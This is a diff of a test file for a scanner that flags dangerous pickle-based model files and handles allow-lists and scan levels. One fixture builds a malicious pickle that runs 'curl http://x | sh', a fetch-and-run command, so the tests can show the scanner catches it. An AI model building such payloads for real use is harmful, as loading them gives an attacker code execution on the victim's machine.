@@ -12,7 +12,7 @@ import { securityScan } from './security-scan.ts'
 
 const EVIL = p.pickle(p.call('posix', 'system', p.text('curl http://x | sh')))
 const UNKNOWN = p.pickle(p.call('my_company', 'Model'))
-const GOOD = p.pickle(p.call('sklearn.linear_model._logistic', 'LogisticRegression'))
+const GOOD = p.pickle(p.global('sklearn.linear_model._logistic', 'LogisticRegression'), p.EMPTY_TUPLE, p.NEWOBJ)
 
 async function project(files: Record<string, Uint8Array>) {
   const cwd = await mkdtemp(join(tmpdir(), 'plimsoll-scan-'))
@@ -42,7 +42,7 @@ test('a pickle that is named .onnx is stopped with a message that a newcomer und
   const [result] = report.results
   expect(report.verdict).toBe('fail')
   expect(result?.message).toBe('At byte 41, REDUCE calls posix.system("curl http://x | sh"): runs programs (and 1 more finding)')
-  expect(result?.hint).toContain('Do not load this file')
+  expect(result?.hint).toContain('Do not load the file')
   expect(result?.location).toEqual({ file: 'artifacts/model.onnx', byteOffset: 41 })
   expect(result?.findings.map(({ rule }) => rule)).toEqual(['pickle.dangerous-call', 'format.disagrees'])
 })
@@ -55,8 +55,34 @@ test('a folder gives one result for each file', async () => {
     ['artifacts/b.pkl', 'fail'],
     ['artifacts/c.bin', 'error'],
   ])
-  expect(report.results[1]?.hint).toContain('no allow-list')
-  expect(report.results[2]?.hint).toContain('cannot be trusted')
+  expect(report.results[1]?.hint).toContain('scan-allow.yaml')
+  expect(report.results[1]?.hint).toContain('Names to review: my_company.Model.')
+  expect(report.results[2]?.hint).toContain('Remove the file')
+})
+
+test('what the project allows by name passes, in the scan and in the gate before loading', async () => {
+  const context = await project({ 'b.pkl': UNKNOWN })
+  await writeFile(
+    join(context.cwd, 'scan-allow.yaml'),
+    "allow:\n  - name: my_company.Model\n    reason: our own, reviewed\n    expires: '2099-01-01'\n",
+  )
+  const report = await securityScan.run(context, { model: 'artifacts', level: 'framework' })
+  expect(report.verdict).toBe('pass')
+  await expect(admitModel(context)(join(context.cwd, 'artifacts/b.pkl'))).resolves.toBe(sha256(UNKNOWN))
+  await writeFile(join(context.cwd, 'scan-allow.yaml'), 'allow:\n  - name: posix.system\n    reason: no\n')
+  await expect(securityScan.run(context, { model: 'artifacts', level: 'framework' })).rejects.toMatchObject({ code: 'E_VALUE' })
+})
+
+test('several paths, each file once; at the level audit nothing is refused, and nothing passes either', async () => {
+  const context = await project({ 'a.pkl': GOOD, 'b.pkl': UNKNOWN })
+  const report = await securityScan.run(context, { model: ['artifacts/b.pkl', 'artifacts'], level: 'audit' })
+  expect(report.results.map(({ title, verdict }) => [title, verdict])).toEqual([
+    ['artifacts/b.pkl', 'warn'],
+    ['artifacts/a.pkl', 'pass'],
+  ])
+  expect(report.details).toMatchObject({ level: 'audit', ruleset: expect.stringMatching(/^sha256:/) as string })
+  const strict = await securityScan.run(context, { model: 'artifacts/a.pkl', level: 'strict' })
+  expect(strict.verdict).toBe('fail')
 })
 
 test('a missing file and an empty folder are told as such', async () => {
